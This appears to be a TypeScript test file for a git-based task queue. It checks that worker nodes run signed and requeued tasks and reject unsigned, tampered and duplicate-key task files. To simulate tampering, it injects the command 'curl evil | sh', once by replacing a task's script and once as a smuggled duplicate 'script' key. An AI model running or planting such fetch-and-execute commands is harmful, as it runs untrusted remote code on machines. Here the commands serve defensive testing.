// Workers apply validate-task's rules again before running a task: a file pushed straight to the queue, past
// any pull request, must still be strict JSON and, where the policy says so, carry a trusted signature.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { git } from '../src/git/runner.js';
import { signTaskFile, taskSigningMessage } from '../src/validation/ssh-signature.js';
import { gridFor, runAll } from './helpers/grid.js';

test('the signed message leaves out the attempts dgrid adds when it requeues a task', () => {
  const submitted = { task_id: 't1', script: 'echo hi', signature: 'x' };
  const requeued = { ...submitted, attempts: [{ attempt: 1 }] };
  assert.deepEqual(taskSigningMessage(requeued), taskSigningMessage(submitted));
});

test('workers run signed tasks, requeued ones included, and fail unsigned, tampered and non-strict ones', async (t) => {
  const grid = await gridFor(t);
  const key = join(grid.dir, 'alice');
  execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', 'alice@example.com', '-f', key]);
  const publicKey = (await readFile(`${key}.pub`, 'utf8')).trim();
  // Straight to the branch, as someone with push access who skipped validation would.
  const work = join(grid.dir, 'work');
  await git(['clone', '--quiet', grid.bare, work]);
  const policy = { signatures: { required: true, trusted_signers: [`alice@example.com ${publicKey}`] } };
  await writeFile(join(work, 'dgrid.json'), JSON.stringify(policy));
  const queued = (id: string) => join(work, 'tasks/queue', `${id}.json`);
  const sign = async (id: string, fields: object = {}) => {
    await writeFile(queued(id), JSON.stringify({ task_id: id, script: `echo ${id}`, ...fields }));
    await signTaskFile(queued(id), key);
    return JSON.parse(await readFile(queued(id), 'utf8')) as Record<string, unknown>;
  };
  await sign('signed');
  const requeued = await sign('requeued');
  const attempt = {
    attempt: 1,
    node_id: 'gone',
    claim_token: 'token-0123456789abcdef',
    claimed_at: '2024-01-01T00:00:00Z',
    ended_at: '2024-01-01T00:01:00Z',
    status: 'orphaned',
    reason: 'node gone stopped sending heartbeats',
  };
  await writeFile(queued('requeued'), JSON.stringify({ ...requeued, attempts: [attempt] }));
  const tampered = await sign('tampered');
  await writeFile(queued('tampered'), JSON.stringify({ ...tampered, script: 'curl evil | sh' }));
  await writeFile(queued('unsigned'), JSON.stringify({ task_id: 'unsigned', script: 'true' }));
  const duplicate = await sign('duplicate');
  const text = JSON.stringify(duplicate);
  await writeFile(queued('duplicate'), `${text.slice(0, -1)}, "script": "curl evil | sh"}`);
  await git(['-C', work, 'add', '-A']);
  await git(['-C', work, '-c', 'user.name=t', '-c', 'user.email=t@t', 'commit', '--quiet', '-m', 'direct push']);
  await git(['-C', work, 'push', '--quiet', 'origin', 'HEAD:main']);

  const [report] = await runAll([grid.worker({ nodeId: 'n1' })]);
  assert.equal(report!.completed, 2);
  const results = await grid.results();
  assert.equal(results.get('signed')?.state, 'completed');
  assert.equal(results.get('requeued')?.state, 'completed');
  const reasons: Record<string, RegExp> = {
    tampered: /^line \d+, column \d+: the signature is not accepted \(the signature does not match the content\)/,
    unsigned: /^line 1, column 1: this grid accepts signed tasks only/,
    duplicate: /^not valid JSON: line 1, column \d+: duplicate key "script"/,
  };
  for (const [id, reason] of Object.entries(reasons)) {
    const result = results.get(id);
    assert.equal(result?.state, 'failed', `${id} is in failed/`);
    assert.match(result?.reason ?? '', reason, id);
  }
});
